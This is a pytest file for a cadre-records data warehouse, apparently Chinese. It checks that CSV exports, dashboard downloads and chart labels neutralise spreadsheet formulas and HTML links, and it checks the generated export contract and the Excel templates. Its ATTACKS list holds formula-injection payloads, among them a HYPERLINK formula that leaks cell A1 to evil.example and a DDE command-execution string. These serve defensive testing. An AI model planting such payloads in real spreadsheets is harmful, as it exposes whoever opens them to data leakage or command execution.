"""What stewards and users get out: CSV that Excel cannot run, charts without links, the export
contract in the repository, and templates that fill in to a clean ingest."""

from __future__ import annotations

import csv
import io
import sys
import zipfile
from datetime import date
from pathlib import Path

import duckdb
import polars as pl
import pytest

from tests.conftest import run_cadres
from tests.rawkit import appointment, participant, person, teams, training_class
from warehouse.contract_doc import CONTRACT_DOC, render_contract_doc
from warehouse.ingest import ingest
from warehouse.personal.store import store_path
from warehouse.safety import neutralise_cell, neutralise_frame, plain_label
from warehouse.settings import PROJECT_ROOT
from warehouse.template import INSTRUCTIONS, write_templates

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "-2+3+cmd|' /C calc'!A0", "+1+1",
           "@SUM(1+1)", "\tx", "\rx"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_text_is_neutralised(attack: str) -> None:
    assert neutralise_cell(attack) == "'" + attack


def test_ordinary_cells_and_numbers_are_untouched() -> None:
    assert [neutralise_cell(v) for v in ("张三", "2017-05-18", "", None, -2, 3.5)] == \
        ["张三", "2017-05-18", "", None, -2, 3.5]
    frame = neutralise_frame(pl.DataFrame({"名称": [*ATTACKS, "正常"], "人数": list(range(-3, 4))}))
    assert frame["名称"].to_list() == ["'" + a for a in ATTACKS] + ["正常"]
    assert frame["人数"].to_list() == list(range(-3, 4))


def test_rejects_csv_neutralises_every_cell(tmp_path: Path) -> None:
    warehouse = tmp_path / "cadres.duckdb"
    # the rejected rows as read live in the restricted store beside the warehouse
    store = store_path(warehouse)
    with duckdb.connect(str(store)) as connection:
        connection.execute('CREATE TABLE rejects (file VARCHAR, sheet VARCHAR, "row" INTEGER, '
                           '"column" VARCHAR, value VARCHAR, reason VARCHAR, record VARCHAR)')
        for number, attack in enumerate(ATTACKS, start=2):
            connection.execute("INSERT INTO rejects VALUES (?, ?, ?, ?, ?, ?, '{}')",
                               ["=bad.xlsx", "@sheet", number, "-col", attack, f"身份证号“{attack}”无效"])
    store.chmod(0o600)
    result = run_cadres("rejects", "--csv", "--warehouse", str(warehouse))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["文件", "工作表", "行号", "列", "值", "原因"]
    for row, attack in zip(rows[1:], ATTACKS, strict=True):
        assert row[:2] == ["'=bad.xlsx", "'@sheet"] and row[3] == "'-col"
        # the harness reads stdout as text, which turns a lone CR into LF
        assert row[4] == "'" + attack.replace("\r", "\n") and row[2].isdigit()


def test_dashboard_csv_downloads_are_neutralised() -> None:
    sys.path.insert(0, str(PROJECT_ROOT / "dashboard"))
    try:
        import ui
    finally:
        sys.path.remove(str(PROJECT_ROOT / "dashboard"))
    data = ui.csv_bytes(pl.DataFrame({"org_name": ["=1+1", "乐山市政协"], "persons": [-1, 2]}))
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[1].startswith("'=1+1,") and lines[1].endswith(",-1") and lines[2].startswith("乐山市政协")


def test_chart_labels_never_become_links() -> None:
    sys.path.insert(0, str(PROJECT_ROOT / "dashboard"))
    try:
        import charts
    finally:
        sys.path.remove(str(PROJECT_ROOT / "dashboard"))
    link = '<a href="http://evil.example">乐山市政协</a>'
    figures = [
        charts.bars([link, "市中区"], [1, 2], title="t", value_label="人数"),
        charts.bars([link], [1], title="t", value_label="人数", horizontal=False, text=[link]),
        charts.stacked([link], {link: [1]}, title="t", value_label="人数"),
        charts.heatmap([link], [link], [[1]], title="t", text=[[link]], value_label="人数"),
        charts.funnel([link], [1], title="t"),
        charts.lines([link], {link: [1]}, title="t", value_label="人数"),
        charts.share_against_line([link], [0.5], [link], title="t", line=0.5, line_label="目标",
                                  value_label="占比"),
        charts.rates_against_targets([link], [0.5], [0.6], [link], title="t", value_label="比率",
                                     target_label="目标"),
    ]
    for figure in figures:
        drawn = figure.to_dict()["data"]
        for trace in drawn:
            shown = {k: v for k, v in trace.items() if k != "customdata"}
            assert "<a" not in str(shown), shown
    assert plain_label(link) == "＜a href=\"http://evil.example\"＞乐山市政协＜/a＞"
    assert figures[0].to_dict()["data"][0]["customdata"][0] == [link]  # click filters keep the value


def test_the_committed_contract_doc_is_generated() -> None:
    assert CONTRACT_DOC.read_text(encoding="utf-8") == render_contract_doc(), \
        "docs/raw-exports.zh.md is stale: run `cadres contract-doc`"
    text = CONTRACT_DOC.read_text(encoding="utf-8")
    for phrase in ("副科级以上党外干部", "民盟盟员（也可写 民盟、中国民主同盟）", "乐山高新区",
                   "511181（峨眉山市）", "YYYY年M月D日", "超过读取行数的 20%"):
        assert phrase in text
    readme = (PROJECT_ROOT / "README.md").read_text(encoding="utf-8")
    assert "docs/raw-exports.zh.md" in readme and "shared/raw-exports.md" not in readme


@pytest.fixture(scope="module")
def templates(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("templates") / "templates"
    result = run_cadres("template", "--out", str(out))
    assert result.returncode == 0, result.stderr
    return out


def test_templates_cover_every_file_of_the_contract(templates: Path) -> None:
    names = sorted(p.relative_to(templates).as_posix() for p in templates.rglob("*.xlsx"))
    assert names == sorted(["appointments.xlsx", "leadership_teams.xlsx", "training/classes.xlsx",
                            "training/participants.xlsx", f"talent_pool/{date.today()}.xlsx",
                            f"{INSTRUCTIONS}.xlsx"])
    result = ingest(templates)  # empty templates are a valid, empty raw folder
    assert {r.rows_read for r in result.files} == {0} and not result.rejects


def _sheet_xml(workbook: Path, number: int = 1) -> str:
    with zipfile.ZipFile(workbook) as archive:
        return archive.read(f"xl/worksheets/sheet{number}.xml").decode("utf-8")


def test_templates_validate_codes_dates_and_ids(templates: Path) -> None:
    appointments = _sheet_xml(templates / "appointments.xlsx")
    assert '<dataValidation type="list"' in appointments
    assert "<formula1>\"领导职务,政治安排\"</formula1>" in appointments  # 任用类别, ref_code_values
    assert '<dataValidation type="date"' in appointments
    assert '<dataValidation type="textLength"' in appointments  # 身份证号
    with zipfile.ZipFile(templates / "appointments.xlsx") as archive:
        assert 'formatCode="@"' in archive.read("xl/styles.xml").decode("utf-8")  # ID cells are text
        names = archive.read("xl/workbook.xml").decode("utf-8")
    assert f'name="{INSTRUCTIONS}"' in names
    pool = _sheet_xml(next((templates / "talent_pool").glob("*.xlsx")))
    assert "乐山市本级,市中区" in pool and "近期可用,中长期培养" in pool


def test_filled_templates_ingest_cleanly(tmp_path: Path) -> None:
    rows = {
        "副科级以上党外干部": [person(1), person(3, 工作单位及职务='=HYPERLINK("http://x")')],
        "民主党派代表人士": [person(1)],
        "training_classes": [training_class()],
        "training_participants": [participant()],
        "appointments": [appointment(1)],
        "leadership_teams": teams(),
    }
    write_templates(tmp_path, rows, snapshot=date(2018, 4, 30))
    result = ingest(tmp_path)
    assert not result.rejects, result.rejects
    loaded = {(r.file, r.sheet): r.rows_loaded for r in result.files}
    assert loaded[("talent_pool/2018-04-30.xlsx", "副科级以上党外干部")] == 2
    assert loaded[("leadership_teams.xlsx", "领导班子职数配备表")] == 36
    assert loaded[("appointments.xlsx", "职务任免及政治安排记录")] == 1
    posts = {r["工作单位及职务"] for r in result.tables["talent_pool"]}
    assert "'=HYPERLINK(\"http://x\")" in posts  # the writer defuses formula text too
